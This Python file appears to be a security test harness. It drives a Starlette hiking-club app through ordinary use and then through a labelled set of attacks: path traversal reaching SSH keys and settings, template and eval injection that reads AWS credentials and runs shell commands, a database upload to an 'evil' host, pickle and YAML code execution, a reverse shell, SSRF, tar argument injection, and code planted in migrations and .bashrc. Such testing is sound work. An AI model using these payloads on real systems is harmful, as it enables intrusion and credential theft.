# SPDX-License-Identifier: Apache-2.0
"""A Starlette application with SQLAlchemy's asyncio and alembic."""
import base64
import io
import json
import os
import pickle

from attackers import Bomb, in_yaml
import stage

STEEPNESS = {"__init__.py": "def effort(km, climb):\n"
                            "    return km + float(climb) / 100\n"}
STEEPNESS_NEW = {
    "__init__.py": "from steepness.scale import effort\n",
    "scale.py": "import fractions\nimport json\nimport pathlib\n\n"
                "TABLE = json.loads(pathlib.Path(__file__).with_name(\n"
                "    'scale.json').read_text())\n\n\ndef effort(km, climb):\n"
                "    return km + float(fractions.Fraction(climb)\n"
                "                      / TABLE['metres'])\n",
    "scale.json": '{"metres": 100}\n'}
POINT = '<trkpt lat="47.1" lon="12.{}"></trkpt>\n'


def picture(kind, width=90, noise=False):
    """A photo by Pillow, as cameras and phones make them."""
    from PIL import Image  # only who measures has it
    made = io.BytesIO()
    size = (width, width * 2 // 3)
    image = (Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
             if noise else Image.new("RGB", size, "darkgreen"))
    image.save(made, kind)
    return made.getvalue()


def track(points):
    return ("<gpx><trk><trkseg>\n" + "".join(map(POINT.format, range(points)))
            + "</trkseg></trk></gpx>\n").encode()


class StarletteTrails(stage.Service):
    """A hiking club's trails, photos, yearbooks (Starlette, async ORM)."""
    packages = ["python3-starlette", "python3-uvicorn", "python3-sqlalchemy",
                "python3-aiosqlite", "python3-greenlet", "alembic",
                "python3-multipart", "python3-itsdangerous", "python3-httpx",
                "python3-jinja2", "python3-yaml", "python3-pil"]

    def arrange(self):
        stage.write(self.srv / "settings.toml",
                    f'key = "not-{stage.SECRET}"\n', 0o600)
        (self.srv / "var/log").mkdir(parents=True)
        self.install("steepness", "2.1.0", STEEPNESS)

    def arrange_benign(self):
        self.install("steepness", "2.2.0", STEEPNESS_NEW)

    def start(self):
        status, text = self.run(self.python, "/usr/bin/alembic", "upgrade",
                                "head")
        if status:
            raise stage.Broken(text[-300:])
        super().start()

    def command(self):
        return [self.python, "-m", "uvicorn", "--host", "127.0.0.1", "--port",
                self.port("web"), "trails.main:app"]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name):
        browser = self.browser()
        word = name[::-1] + "!"
        browser.post("/signup", user=name, password=word)
        self.expect_answer(f"{name} enters", browser.post(
            "/login", user=name, password=word), "hello")
        return browser

    def walk(self, browser, title, region, km, walked, **more):
        """A trail; returns its number."""
        made = self.expect_answer(f"trail {title}", browser.post(
            "/trails", title=title, region=region, km=km, walked=walked,
            **more), title.split()[0], 201)
        number = json.loads(made or b'{"id": 1}')["id"]
        self.expect_answer(f"trail {number}", browser.get(
            f"/trails/{number}"), "walked")
        return number

    def album(self, browser, number, photos, side):
        """photos: {name: content}."""
        for name, content in photos.items():
            self.expect_answer(f"photo {name}", browser.upload(
                f"/trails/{number}/photos", name, content), "kept", 201)
            self.expect_answer(f"{name} as it came", browser.get(
                f"/trails/{number}/photo", name=name), content)
            self.expect_answer(f"{name} at {side}", browser.get(
                f"/trails/{number}/photo", name=name, side=side), "JFIF")
        query = "&".join("name=" + stage.urllib.parse.quote(name)
                         for name in photos)
        self.expect_answer(f"{len(photos)} photos packed", browser.fetch(
            f"/trails/{number}/photos.tgz?{query}"), b"\x1f\x8b")

    def yearbook(self, browser, season, kind, found, **query):
        self.expect_answer(f"yearbook {season}.{kind}", browser.get(
            f"/yearbook/{season}.{kind}", **query), found)

    def sends_track(self, browser, number, name, points):
        self.expect_answer(f"track {name}", browser.upload(
            f"/trails/{number}/track", name, track(points)), str(points))

    def nights(self, *days):
        """What is done while nobody is served."""
        self.halt()
        for day in days:
            words = [self.python, "tools/nightly.py", day]
            self.expect_run(words, self.run(*words),
                            made=[f"var/copies/{day[:4]}/{day}.db"])
        self.start()

    def train(self, day):
        self.site("weather").page("*", "sunny, 21 degrees")
        self.site("chat").page("*", "ok")
        visitor = self.browser()
        self.expect_answer("home", visitor.get("/"), "stranger")
        self.expect_answer("style", visitor.get("/static/page.css"), "green")
        self.expect_answer("stranger", visitor.get("/weather"), status=403)
        self.expect_answer("wrong password", visitor.post(
            "/login", user="ina", password="x"), status=403)
        for name, title, region, km, walked, photos, side in (
                ("ina", "Round the lake", "Salzburg", "12.5",
                 f"2026-05-0{day}", {f"IMG_20{day}.jpg": picture("JPEG"),
                                     "summit.png": picture("PNG")}, 128),
                ("jakob", f"Peak {day}", "Tirol", "19", f"2026-06-1{day}",
                 {f"DSC0{day}11.JPG": picture("JPEG", 400 + 1000 * (day == 2),
                                              True)}, 256),
                ("lena", "Old mill", "Kärnten", "7.25", f"2025-09-2{day}",
                 {"mill.jpeg": picture("JPEG"), f"mill-{day}.png":
                  picture("PNG"), "bridge.gif": picture("GIF")}, 128)):
            browser = self.enter(name)
            number = self.walk(browser, title, region, km, walked, climb=300,
                               hook=self.site("chat").url + f"/hooks/{name}")
            self.album(browser, number, photos, side)
            self.sends_track(browser, number, f"{walked}.gpx", 10 * day)
            for kind in ("csv", "kml", "ics"):
                self.expect_answer(f"export {kind}", browser.get(
                    f"/trails/{number}/export.{kind}"), title)
            self.yearbook(browser, walked[:4], "csv" if name == "ina"
                          else "html", title)
            self.expect_answer("effort", browser.get(
                f"/trails/{number}/effort", formula="km * 2 + effort"),
                "effort")
            self.expect_answer("weather", browser.get(
                "/weather", source=self.site("weather").url
                + f"/{region}/{walked}"), "sunny")
            self.expect_answer("invitation", browser.post(
                "/invitation", text="Come along! {{ user|title }}"),
                name.title())
        season, region, found = (("2026", "Tirol", "Peak"),
                                 ("2026", "Salzburg", "Round"),
                                 ("2025", "Kärnten", "Old"))[day - 1]
        self.yearbook(browser, season, "csv", found, region=region)
        self.expect_answer("import", browser.fetch(
            "/trails/import", f"- {{title: Pass {day}, region: Tirol, km: 9, "
            f"walked: 2026-07-0{day}}}\n".encode()), "1")
        self.write_draft(browser, {"title": f"Idea {day}", "km": 3})
        self.expect_answer("feed", visitor.get("/feed.ndjson"), "Old mill")
        self.expect_answer("no trail", visitor.get("/trails/99"), status=404)
        self.expect_answer("no photo", browser.get(
            "/trails/3/photo", name="none.jpg"), status=404)
        self.expect_answer("no page", visitor.get("/none"), status=404)
        self.nights(*(f"2026-07-0{day + night}" for night in range(4)))
        self.expect_answer("home again", visitor.get("/"), "Old mill")

    def write_draft(self, browser, what):
        self.expect_answer("draft", browser.fetch(
            "/draft", base64.b64encode(pickle.dumps(what)), method="PUT"),
            "title")
        self.expect_answer("draft again", browser.get("/draft"), "title")

    def benign(self):
        self.site("weather").page("*", "rain, 9 degrees")
        self.site("chat").page("*", "ok")
        visitor = self.browser()
        for name, title, region, km, walked, photos, side in (
                ("Max Mustermann", "Über den Grat", "Hohe Tauern", "31",
                 "2027-10-03", {
                     "Foto Nr. 4 (Kopie).jpeg": picture("JPEG"),
                     "PXL_20271003_081503.MP.jpg": picture("JPEG")}, 512),
                ("o.brien", "St. Anton - Zürs & back", "Vorarlberg", "17.75",
                 "2031-12-31", {"IMG-20311231-WA0007.webp": picture("WEBP"),
                                "scan_01.tiff": picture("TIFF")}, 96),
                ("zoe-lu", "Loop", "Graz/Nord", "4", "2024-02-29",
                 {"tag-1/morgens/see.png": picture("PNG")}, 256),
                ("ina", "Round the lake", "Salzburg", "12.5", "2026-05-09",
                 {"IMG_209.jpg": picture("JPEG", 1500, True)}, 128)):
            browser = self.enter(name)
            number = self.walk(browser, title, region, km, walked, climb=1250,
                               hook=self.site("chat").url
                               + f"/hooks/{name[:3]}?room=7")
            self.album(browser, number, photos, side)
            self.sends_track(browser, number,
                             "Tour am See (2).gpx" if side == 512
                             else f"{walked}.v2.gpx", 31)
            for kind in ("csv", "kml", "ics"):
                self.expect_answer(f"export {kind}", browser.get(
                    f"/trails/{number}/export.{kind}"),
                    title.split()[0])
            self.yearbook(browser, walked[:4], "html", region)
            self.expect_answer("effort", browser.get(
                f"/trails/{number}/effort", formula="max(km, effort) / 2"),
                "effort")
            self.expect_answer("weather", browser.get(
                "/weather", source=self.site("weather").url
                + f"/archive/{walked}?place=47.1,12.3"), "rain")
            self.expect_answer("invitation", browser.post(
                "/invitation", text="{% for n in range(2) %}Hi {% endfor %}"
                "{{ user }}"), name)
        self.yearbook(browser, "2027", "csv", "Grat", region="Hohe Tauern")
        self.yearbook(browser, "2026", "md", "- Round")
        self.expect_answer("no such yearbook", browser.get(
            "/yearbook/2026.pdf"), status=400)
        self.expect_answer("import", browser.fetch(
            "/trails/import", b"- {title: A, region: B, km: 1.5, walked: "
            b"2027-01-01}\n- {title: C, region: D, km: 2, walked: "
            b"2027-01-02}\n"), "2")
        self.write_draft(browser, {"title": "Größe", "days": [1, 2]})
        self.expect_answer("download", browser.get(
            f"/trails/{number}/photo", name="IMG_209.jpg", download=1),
            b"\xff\xd8")
        self.expect_answer("no picture", browser.upload(
            f"/trails/{number}/photos", "broken.jpg", b"nothing" * 9),
            status=415)
        self.expect_answer("no photo", browser.get(
            "/trails/7/photo", name="keins da.png"), status=404)
        self.expect_answer("no draft", self.enter("Eve").get("/draft"),
                           status=404)
        self.expect_answer("no number", visitor.get("/trails/x"), status=404)
        self.expect_answer("no length", browser.post(
            "/trails", title="x", region="y", km="far", walked="2026-01-01"),
            status=500)
        self.expect_answer("favicon", visitor.get("/favicon.ico"), status=404)
        self.expect_answer("no style", visitor.get("/static/x/y.css"),
                           status=404)
        self.expect_answer("hook is down", browser.post(
            "/trails", title="Hut", region="Tirol", km="3",
            walked="2026-08-08", hook=self.site("chat").url + "/gone"),
            "Hut", 201)
        for name in ("ina", "Max Mustermann", "o.brien", "Ute") * 4:
            self.enter(name)  # the log is rotated
        self.nights("2027-12-31")
        self.nights("2028-01-01", "2028-01-02", "2028-01-03", "2028-01-04")
        self.expect_answer("home again", visitor.get("/"), "Grat")

    def health(self):
        browser = self.enter("ina")
        number = self.walk(browser, "Round the lake", "Salzburg", "12.5",
                           "2026-05-01", climb=300)
        self.album(browser, number, {"IMG_201.jpg": picture("JPEG")}, 128)
        self.yearbook(browser, "2026", "csv", "Round")

    # ----------------------------------------------------------------- attacks
    def gets(self, path, **query):
        return self.enter("ina").get(path, **query)[1]

    def trail(self):
        """Somebody who has a trail, and its number."""
        browser = self.enter("ina")
        return browser, self.walk(browser, "Round the lake", "Salzburg",
                                  "12.5", "2026-05-01")

    def photo(self, name):
        browser, number = self.trail()
        browser.upload(f"/trails/{number}/photos", "a.jpg", picture("JPEG"))
        return browser.get(f"/trails/{number}/photo", name=name)[1]

    def sends_photo(self, name, content):
        browser, number = self.trail()
        browser.upload(f"/trails/{number}/photos", name, content)
        return browser, number

    def computes(self, code):
        browser, number = self.trail()
        return browser.get(f"/trails/{number}/effort", formula=code)[1]

    def renders(self, code):
        return self.enter("ina").post("/invitation", text=(
            "{{ lipsum.__globals__.__builtins__." + code + " }}"))[1]

    def drafts(self, *call):
        self.enter("ina").fetch("/draft", base64.b64encode(pickle.dumps(
            Bomb(*call))), method="PUT")

    @stage.attack("traversal")
    def photo_is_a_private_key(self):
        return self.is_told(self.photo("../../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def photo_is_the_source(self):
        return b"HOLE" in self.photo(f"{self.srv}/trails/main.py")

    @stage.attack("secret disclosure")
    def photo_is_the_settings(self):
        return self.is_told(self.photo("../../../../settings.toml"))

    @stage.attack("secret disclosure")
    def photo_is_the_database(self):
        return b"SQLite" in self.photo("../../../trails.db")

    @stage.attack("template injection")
    def invitation_reads_credentials(self):
        return self.is_told(self.renders(
            f"open('{self.home}/.aws/credentials').read()"))

    @stage.attack("template injection")
    def invitation_runs_a_command(self):
        return self.runs_line(lambda line: self.renders(
            f"__import__('os').popen('{line}').read()"))

    @stage.attack("eval injection")
    def effort_runs_a_command(self):
        return self.runs_line(lambda line: self.computes(
            f"__import__('subprocess').call({line!r}, shell=True)"))

    @stage.attack("eval injection")
    def effort_lists_the_house(self):
        return b"payroll" in self.computes(
            f"__import__('os').listdir({str(self.place)!r})")

    @stage.attack("ctypes")
    def effort_calls_libc(self):
        return self.runs_libc(self.computes)

    @stage.attack("fork+exec")
    def effort_forks(self):
        return self.forks(lambda code: self.computes(f"exec({code!r})"))

    @stage.attack("exfiltration")
    def effort_sends_the_database(self):
        self.trail()
        evil = self.site("evil")
        evil.page("*", b"")
        self.computes(
            "__import__('urllib.request').request.urlopen("
            f"{evil.url!r}, open('var/trails.db', 'rb').read()).status")
        return evil.heard("SQLite format")

    @stage.attack("unsafe yaml")
    def import_runs_code(self):
        return self.runs_line(lambda line: self.enter("ina").fetch(
            "/trails/import", in_yaml(
                f"import os; os.system({line!r})").encode()))

    @stage.attack("unsafe pickle")
    def draft_runs_a_command(self):
        return self.runs_line(lambda line: self.drafts(os.system, line))

    @stage.attack("reverse shell")
    def draft_calls_home(self):
        return self.calls_home(lambda code: self.drafts(exec, code))

    @stage.attack("SSRF")
    def weather_is_inside(self):
        return self.fetches_inside(
            lambda url: self.gets("/weather", source=url))

    @stage.attack("SSRF")
    def weather_is_redirected_inside(self):
        return self.is_redirected_inside(
            "weather", lambda url: self.gets("/weather", source=url))

    @stage.attack("argument injection")
    def pack_runs_a_checkpoint(self):
        browser, number = self.sends_photo("a.jpg", picture("JPEG"))
        return self.runs_line(lambda line: browser.fetch(
            f"/trails/{number}/photos.tgz?" + stage.urllib.parse.urlencode(
                [("name", "--checkpoint=1"), ("name", "a.jpg"),
                 ("name", "--checkpoint-action=exec=" + line)])))

    @stage.attack("traversal")
    def pack_holds_the_payroll(self):
        browser, number = self.sends_photo("a.jpg", picture("JPEG"))
        answer = browser.get(f"/trails/{number}/photos.tgz",
                             name=f"{self.place}/payroll/2026.csv")
        stage.write(self.loot / "it.tgz", answer[1])
        return "payroll" in self.run("tar", "tzf", self.loot / "it.tgz",
                                     wrapped=False)[1]

    @stage.attack("command injection", fresh=True)
    def track_runs_a_command(self):
        browser, number = self.trail()
        (self.srv / "x").write_text("")
        browser.upload(f"/trails/{number}/track", "$(id >hit)", track(1))
        return (self.srv / "hit").exists()

    @stage.attack("write to code", fresh=True)
    def photo_becomes_an_exporter(self):
        def use(line):
            browser, number = self.sends_photo(
                f"{self.srv}/trails/exporters/evil.py",
                f"import os\nos.system({line!r})\n".encode())
            browser.get(f"/trails/{number}/export.evil")
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def photo_replaces_a_template(self):
        self.sends_photo(f"{self.srv}/trails/templates/home.html", b"planted")
        return "planted" in (
            self.srv / "trails/templates/home.html").read_text()

    @stage.attack("write to code", fresh=True)
    def photo_becomes_a_migration(self):
        def use(line):
            self.sends_photo("../../../../migrations/versions/0004_x.py", (
                f"import os\nos.system({line!r})\nrevision = '0004'\n"
                "down_revision = '0003'\n\n\ndef upgrade():\n    pass\n"
            ).encode())
            self.restart()
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def photo_replaces_the_profile(self):
        self.sends_photo(f"{self.home}/.bashrc", b"planted")
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("symlink swap", fresh=True)
    def photo_became_a_link(self):
        browser, number = self.sends_photo("a.jpg", picture("JPEG"))
        path = self.srv / f"var/media/ina/{number}/a.jpg"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(browser.get(f"/trails/{number}/photo",
                                        name="a.jpg"))

    @stage.attack("malicious dependency", fresh=True)
    def steepness_sends_credentials(self):
        return self.dependency_steals("steepness", "2.1.1", STEEPNESS,
                                      self.restart)
